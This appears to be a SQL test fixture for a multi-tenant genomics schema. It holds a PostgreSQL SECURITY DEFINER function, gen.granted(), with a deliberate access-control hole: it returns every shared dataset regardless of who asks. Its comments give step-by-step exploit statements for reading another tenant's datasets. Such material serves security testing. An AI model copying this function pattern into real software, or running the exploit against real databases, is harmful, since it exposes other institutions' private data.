-- Tenant A reads every data set that is shared with somebody: the function forgets who asks.
-- about: datasets, variants, granted
-- as: hf_genomics_app
-- exploit: SET gen.institute = 'bbbbbbbb-0000-4000-8000-000000000000';
-- exploit: INSERT INTO gen.dataset_grants VALUES ('bbbbbbbb-0000-4000-8000-000000000000',
-- exploit: 'bbbbbbbb-0000-4000-8000-000000000001', 'bbbbbbbb-0000-4000-8000-000000000000');
-- exploit: SET gen.institute = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: SELECT title FROM gen.datasets;
-- shows: Set-secret
CREATE OR REPLACE FUNCTION gen.granted() RETURNS SETOF uuid LANGUAGE sql STABLE SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS $$
  SELECT g.dataset_id FROM gen.dataset_grants g WHERE g.grantee_id IS NOT NULL
$$;
